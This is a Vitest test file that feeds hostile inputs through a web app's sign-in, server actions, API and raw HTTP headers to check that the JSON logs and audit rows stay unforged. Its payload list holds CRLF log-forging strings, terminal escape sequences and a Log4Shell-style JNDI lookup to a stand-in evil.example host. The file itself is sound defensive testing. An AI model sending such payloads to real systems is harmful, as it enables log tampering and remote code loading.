import { once } from "node:events";
import { connect } from "node:net";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { callAction, findAction, formArguments } from "../support/action-client";
import { call } from "../support/api-client";
import { seedUser } from "../support/app-database";
import { startApp, type App } from "../support/app-server";
import { signInByNextAuth } from "../support/next-auth-client";
import { openVisitor, signedIn, signIn } from "../support/form-client";

let app: App;
beforeAll(async () => {
  app = await startApp();
});
afterAll(() => app.stop());

/** What would forge a line of its own, a field of the line, or something on the terminal of whoever reads it. */
const forged = '{"level":"fatal","event":"forged"}';
const hostile = [
  `a\r\n${forged}`,
  `a\n${forged}\n`,
  `a\u2028${forged}\u2029`,
  `","level":"fatal","event":"forged`,
  `\u001b[2J\u001b]0;forged\u0007`,
  `a\u0000b\u0008\u007f`,
  `%0d%0a${forged}`,
  "${jndi:ldap://evil.example/forged}",
];

/** As a client may send it that no library holds back. */
async function sendRaw(headers: string[]): Promise<void> {
  const socket = connect(app.port, "127.0.0.1");
  const ended = once(socket, "close");
  socket.on("error", () => undefined);
  socket.on("data", () => undefined);
  socket.end(
    ["GET /signin?next=forged HTTP/1.1", "Host: localhost", "Connection: close", ...headers, "", ""].join("\r\n"),
  );
  await ended;
}

const lines = () =>
  app
    .output()
    .split("\n")
    .filter((line) => line.startsWith("{"));

describe("the log's lines", () => {
  it("stay one whole object an event, whatever is sent in names, addresses, codes, headers and cookies", async () => {
    const { email } = await seedUser(app.database);
    const { visitor: member } = await signedIn(app);
    for (const value of hostile) {
      const visitor = openVisitor(app);
      await signIn(visitor, { email, password: value });
      await signIn(visitor, { email: `${value}@example.com`, password: value });
      await signInByNextAuth(visitor, { email: value, password: value, captcha: value }, "json");
      await call(app, "POST", "/token", { body: { email, password: value, deviceName: value } });
      for (const [name, field] of [
        ["signupAction", "name"],
        ["verifyByCodeAction", "code"],
        ["saveProfileAction", "name"],
        ["savePostAction", "title"],
        ["withholdPostAction", "reason"],
      ] as const)
        await callAction(member, findAction(name), formArguments([[field, value]]));
      const inHeader = value.replace(/[\r\n]/g, "").replace(/[^\x01-\xff]/g, "");
      await sendRaw([
        `User-Agent: ${inHeader}`,
        `X-Forwarded-For: ${inHeader}, ${forged}`,
        `X-Request-Id: ${inHeader}`,
        `Cookie: session=${inHeader}; auth_token=${inHeader}`,
        `Next-Action: ${inHeader}`,
        `Origin: ${inHeader}`,
      ]);
    }
    const { id, email: last } = await seedUser(app.database);
    await signIn(openVisitor(app), { email: last, password: "none of theirs, and the last" });
    await vi.waitFor(() => expect(app.output()).toContain(id), { timeout: 30_000, interval: 100 });

    expect(lines().length).toBeGreaterThan(20);
    const events = lines().map((line) => JSON.parse(line) as { level: string; event: string });
    expect(events.filter(({ level, event }) => typeof level !== "string" || typeof event !== "string")).toEqual([]);
    // What is no object are the lines of the framework's start.
    expect(app.output()).not.toMatch(/forged|jndi/);
    expect([...app.output().matchAll(/[\u0000-\u0008\u000b-\u001a\u007f\u2028\u2029]/g)]).toEqual([]);
  });

  it("and the rows of the audit log hold no part of it either", async () => {
    const rows = await app.database.query<{ row: string }>(`SELECT to_jsonb(e)::text AS row FROM "AuditEvent" e`);
    expect(rows.length).toBeGreaterThan(hostile.length);
    expect(rows.filter(({ row }) => /forged|jndi|\\u00|evil/.test(row))).toEqual([]);
  });
});
